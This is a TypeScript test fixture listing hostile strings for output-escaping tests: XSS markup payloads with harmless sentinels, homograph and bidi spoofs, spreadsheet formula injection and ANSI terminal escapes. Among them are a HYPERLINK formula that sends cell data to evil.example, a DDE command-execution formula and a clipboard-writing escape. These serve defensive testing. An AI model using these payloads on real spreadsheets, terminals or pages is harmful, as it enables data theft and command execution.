// Hostile strings for the output tests. OWN is the project's own representative set (one or more per attack
// class, so a fresh clone still exercises every escape); the full shared list in ../shared/tools is added
// when present. Each executable payload sets a window.__xss* sentinel the browser tests watch.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { SHARED_TOOLS } from './shared-data.js';

export const OWN_MARKUP = [
  '<script>window.__xss="own-1"</script>',
  '<img src=x onerror=window.__xss="own-2">',
  '"><svg/onload=window.__xss="own-3">',
  "' autofocus onfocus=window.__xss='own-4' x='",
  '</script><script>window.__xss="own-5"</script>',
  '</style><script>window.__xss="own-6"</script>',
  '<!--</script><script>window.__xss="own-7"</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'own-8\'>">',
  '<a href="javascript:window.__xss=\'own-9\'">click</a>',
  'javascript:window.__xss="own-10"',
  'JaVaScRiPt:window.__xss="own-11"',
  'data:text/html,<script>window.__xss="own-12"</script>',
  '//evil.example/path',
  'http://evil.example/"><script>window.__xss="own-13"</script>',
  '{{constructor.constructor("window.__xss=\'own-14\'")()}}',
  '${window.__xss="own-15"}',
  '\u2028\u2029</script ><script>window.__xss="own-16"</script>',
  '&lt;script&gt;window.__xss="own-17"&lt;/script&gt;',
  '<math><mi><table><mglyph><style><img src=x onerror=window.__xss="own-18">',
  '__proto__',
];

export const OWN_DISPLAY = [
  '\u202Egnp.exe',
  'pay\u200Bpal\u2066.com',
  'xn--80ak6aa92e.com',
  'аррӏе.com',
  'https://аррӏе.com/login',
  'NUL\u0000in\u0000name',
  'lone \uD800 high and \uDC00 low',
  'line one\nforged line\r\n2026-01-01 ALERT cleared',
  '⟪U+202E⟫ fake escape and ␀ fake NUL',
  '😀 real pair at the end 😀',
];

export const OWN_FORMULA = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", '"=1+1"', 'a,b;"c"\r\nd'];

export const OWN_ANSI = [
  '\x1b[2J\x1b[H',
  '\x1b]0;pwned\x07',
  '\x1b]8;;http://evil.example\x07click\x1b]8;;\x07',
  '\x1b[1A\x1b[2K[OK] all clear',
  'fake\rREAL',
  '\x1b]52;c;cGF5bG9hZA==\x07',
  '\x9b31m8-bit CSI',
  '\x1b[8mhidden\x1b[0m',
  '\\x1b[31m literal backslash-x',
];

/** Long enough that every output must cut it. */
export const OWN_HUGE = 'A'.repeat(1 << 20);

export const OWN = [...OWN_MARKUP, ...OWN_DISPLAY, ...OWN_FORMULA, ...OWN_ANSI, OWN_HUGE];

export interface SharedHostile {
  XSS: string[];
  CSV: string[];
  ANSI: string[];
  PATHS: string[];
}

export const SHARED_HOSTILE_PATH = join(SHARED_TOOLS, 'hostile-strings.mjs');
export const hasSharedHostile = existsSync(SHARED_HOSTILE_PATH);

/** The shared list, or undefined on a clone without ../shared. */
export async function loadSharedHostile(): Promise<SharedHostile | undefined> {
  if (!hasSharedHostile) return undefined;
  return (await import(pathToFileURL(SHARED_HOSTILE_PATH).href)) as SharedHostile;
}

export function allShared(shared: SharedHostile): string[] {
  return [...shared.XSS, ...shared.CSV, ...shared.ANSI, ...shared.PATHS];
}
